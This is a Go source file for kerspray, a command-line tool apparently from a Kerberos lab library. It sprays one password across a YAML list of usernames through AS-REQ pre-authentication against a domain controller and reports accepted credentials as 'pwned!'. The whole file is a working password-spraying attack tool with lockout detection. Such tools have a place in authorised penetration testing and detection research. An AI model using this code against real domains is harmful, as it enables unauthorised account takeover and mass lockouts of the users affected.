// Command kerspray sprays a single password against a list of usernames
// read from a YAML target file via repeated AS exchanges, reporting which
// accounts accept it.
//
// Usage:
//
//	kerspray -dc 10.0.0.10 -password Summer2026! -targets targets.yaml
//
// targets.yaml:
//
//	domain: CONTOSO.COM
//	usernames:
//	  - alice
//	  - bob
package main

import (
	"context"
	"flag"
	"fmt"
	"net"
	"os"
	"strconv"
	"time"

	"gopkg.in/yaml.v3"

	"github.com/smnsjas/go-kerlab/internal/cliutil"
	"github.com/smnsjas/go-kerlab/kerrors"
	"github.com/smnsjas/go-kerlab/krb5"
	"github.com/smnsjas/go-kerlab/transport"
)

// errorCodePrincipalUnknown and errorCodePreauthFailed are the KRB-ERROR
// codes worth calling out by name instead of printing the raw integer.
const (
	errorCodePrincipalUnknown = 6
	errorCodePreauthFailed    = 24
)

// targetList is the YAML shape -targets reads: one domain and the set of
// usernames to try the shared password against.
type targetList struct {
	Domain    string   `yaml:"domain"`
	Usernames []string `yaml:"usernames"`
}

func main() {
	dc := flag.String("dc", "", "host IP of the Domain Controller")
	port := flag.Int("port", 88, "Domain Controller Kerberos port")
	password := flag.String("password", "", "Password to spray across every username")
	targetsPath := flag.String("targets", "", "YAML file listing the domain and candidate usernames")
	safe := flag.Bool("safe", false, "Stop as soon as an account looks locked")
	udp := flag.Bool("udp", false, "Use UDP instead of TCP")
	timeout := flag.Duration("timeout", 10*time.Second, "Per-attempt exchange timeout")
	logLevel := flag.String("loglevel", "", "Log level: debug, info, warn, error (empty means warn)")
	logFile := flag.String("logfile", "", "Rotating log file path (default: stderr)")
	flag.Parse()

	if err := cliutil.SetupLogger(*logLevel, *logFile); err != nil {
		fmt.Fprintf(os.Stderr, "logging: %v\n", err)
		os.Exit(1)
	}

	if *dc == "" || *password == "" || *targetsPath == "" {
		fmt.Fprintln(os.Stderr, "usage: kerspray -dc <ip> -password <pw> -targets <targets.yaml>")
		os.Exit(1)
	}

	contents, err := os.ReadFile(*targetsPath)
	if err != nil {
		fmt.Fprintf(os.Stderr, "read %s: %v\n", *targetsPath, err)
		os.Exit(1)
	}
	var targets targetList
	if err := yaml.Unmarshal(contents, &targets); err != nil {
		fmt.Fprintf(os.Stderr, "parse %s: %v\n", *targetsPath, err)
		os.Exit(1)
	}
	if targets.Domain == "" || len(targets.Usernames) == 0 {
		fmt.Fprintln(os.Stderr, "targets file must set domain and a non-empty usernames list")
		os.Exit(1)
	}

	addr := net.JoinHostPort(*dc, strconv.Itoa(*port))
	options := []krb5.KDCOption{krb5.OptRenewable, krb5.OptRenewableOk}
	exchange := transport.Exchange
	if *udp {
		exchange = transport.ExchangeUDP
	}

	fmt.Printf("spraying %d account(s) in %s\n", len(targets.Usernames), targets.Domain)

	for _, username := range targets.Usernames {
		req, err := krb5.NewASReq(targets.Domain, username, options...)
		if err != nil {
			fmt.Fprintf(os.Stderr, "build AS-REQ: %v\n", err)
			os.Exit(1)
		}
		req, err = req.WithPreauth(krb5.NewEncryptionKeyRC4HMAC(*password))
		if err != nil {
			fmt.Fprintf(os.Stderr, "add preauth: %v\n", err)
			os.Exit(1)
		}

		ctx, cancel := context.WithTimeout(context.Background(), *timeout)
		var asRep krb5.AsRep
		krbErr, err := exchange(ctx, addr, req.Marshal(), &asRep)
		cancel()
		if err != nil {
			if kerrors.IsIO(err) {
				fmt.Fprintf(os.Stderr, "network error, aborting: %v\n", err)
				os.Exit(1)
			}
			fmt.Printf("%s\\%s: %v\n", targets.Domain, username, err)
			continue
		}
		if krbErr != nil {
			switch krbErr.ErrorCode {
			case errorCodePrincipalUnknown:
				fmt.Printf("%s\\%s: no such account\n", targets.Domain, username)
			case errorCodePreauthFailed:
				fmt.Printf("%s\\%s: bad password\n", targets.Domain, username)
			default:
				fmt.Printf("%s\\%s: %s\n", targets.Domain, username, krbErr)
			}
			if *safe && krbErr.ErrorCode == 18 {
				fmt.Println("account appears locked, stopping")
				return
			}
			continue
		}

		fmt.Printf("pwned! %s\\%s : %s\n", targets.Domain, username, *password)
	}
}
